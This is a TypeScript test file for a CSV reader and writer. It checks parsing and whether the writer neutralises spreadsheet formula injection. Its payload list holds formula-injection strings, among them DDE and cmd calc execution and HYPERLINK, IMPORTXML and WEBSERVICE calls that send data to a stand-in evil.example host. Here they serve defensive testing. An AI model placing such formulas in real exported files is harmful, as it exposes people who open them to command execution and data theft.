import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { readCsv, writeCsv } from './csv-file.ts'

/** One cell as it is written to a CSV file. */
const csvCell = (cell: string): string => writeCsv([{ x: cell }]).slice('\uFEFF"x"\r\n'.length, -'\r\n'.length)

const fieldsOf = (text: string) => {
  const read = readCsv(text)
  return read.ok ? read.value.map(({ fields }) => fields) : read
}

describe('reading', () => {
  const twoRecords = [
    ['a', 'b'],
    ['1', '2'],
  ]
  test.each([
    ['a,b\n1,2\n', twoRecords],
    ['a,b\r\n1,2', twoRecords],
    ['a,b\r1,2\r', twoRecords],
    ['\uFEFFa\n', [['a']]],
    [
      'a,\n,b',
      [
        ['a', ''],
        ['', 'b'],
      ],
    ],
    ['a,', [['a', '']]],
    ['"a,b","c ""d""","e\nf"\n', [['a,b', 'c "d"', 'e\nf']]],
    ['""\n', []],
    ['\n\n a \n\n', [[' a ']]],
    ['', []],
  ])('%j', (text, records) => {
    expect(fieldsOf(text)).toEqual(records)
  })

  test('each record has the line it begins on, also after a field of several lines', () => {
    const read = readCsv('a\n"b\nc"\nd')
    expect(read.ok && read.value.map(({ line }) => line)).toEqual([1, 2, 4])
    const windows = readCsv('a\r\n\r\n"b\r\nc"\r\nd')
    expect(windows.ok && windows.value.map(({ line }) => line)).toEqual([1, 3, 5])
  })

  test.each([
    ['"a', 'a quoted field has no end'],
    ['"a"b', 'something follows the closing quote of a field'],
    ['a"b', 'a field that is not quoted has a quote inside'],
  ])('%j is not valid CSV', (text, fault) => {
    expect(readCsv(text)).toEqual({ ok: false, error: `line 1: ${fault}` })
  })

  test('has a column for each key of any row', () => {
    expect(fieldsOf(writeCsv([{ a: 1 }, { a: 2, b: 3 }]))).toEqual([
      ['a', 'b'],
      ['1', ''],
      ['2', '3'],
    ])
  })

  test('reads every text as it was written', async () => {
    const cell = fc.string({ unit: 'grapheme' }).filter((text) => !text.includes('\0'))
    const rows = fc.array(fc.record({ a: cell, b: cell }), { minLength: 1 })
    await fc.assert(
      fc.property(rows, (list) => {
        const read = fieldsOf(writeCsv(list))
        const withoutApostrophe = (text: string) => text.replace(/^'/, '')
        expect((read as string[][]).slice(1).map((record) => record.map(withoutApostrophe))).toEqual(
          list.map(({ a, b }) => [withoutApostrophe(a), withoutApostrophe(b)]),
        )
      }),
    )
  })
})

/** Characters that make table programs run a cell as a formula (promise X2). */
const starts = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−']
const bodies = [
  "cmd|'/C calc'!A0",
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("https://evil.example?"&A1,"open")',
  'IMPORTXML("https://evil.example","//a")',
  'WEBSERVICE("https://evil.example")',
  'DDE("cmd";"/C calc";"x")',
  '0900000012',
  'x',
  '"',
]
const blanks = [' ', '\n', '\u00a0', '\u200b', '\ufeff', '\0', '\u2003', '\t ']
const payloads = [
  ...starts.flatMap((start) => bodies.map((body) => start + body)),
  ...blanks.flatMap((before) => [`${before}=1+1`, `${before}@SUM(1)`]),
]

describe('writing', () => {
  test('there are more than 150 payloads', () => {
    expect(new Set(payloads).size).toBeGreaterThan(150)
  })

  test.each(payloads)('%j stays text', (payload) => {
    const cell = csvCell(payload)
    expect(cell).toMatch(/^"'/)
    const [record] = fieldsOf(`${cell},"next"`) as string[][]
    expect(record).toHaveLength(2)
    expect(record?.[0]?.startsWith("'")).toBe(true)
  })

  test.each(['Abebe', 'ስም', 'a=b', 'x-y', 'name@example.org', '0900000012', '2026-12-01', '', "O'Brien", 'a,b'])(
    '%j is unchanged',
    (text) => {
      expect(fieldsOf(`${csvCell(text)},"x"`)).toEqual([[text, 'x']])
    },
  )

  test('no text starts a cell that a table program executes', async () => {
    await fc.assert(
      fc.property(fc.constantFrom('', ...starts, ...blanks), fc.string(), (start, rest) => {
        const text = start + rest
        expect(csvCell(text)).not.toMatch(/^"[\s\p{Cc}\p{Cf}\p{Z}]*[=+\-@＝＋－＠]/u)
        expect(csvCell(text)).not.toMatch(/^"[\t\r]/)
      }),
    )
  })

  test('a sheet begins with a byte order mark and has CRLF line ends', () => {
    expect(writeCsv([{ a: 1, b: null }])).toBe('\uFEFF"a","b"\r\n"1",""\r\n')
  })
})
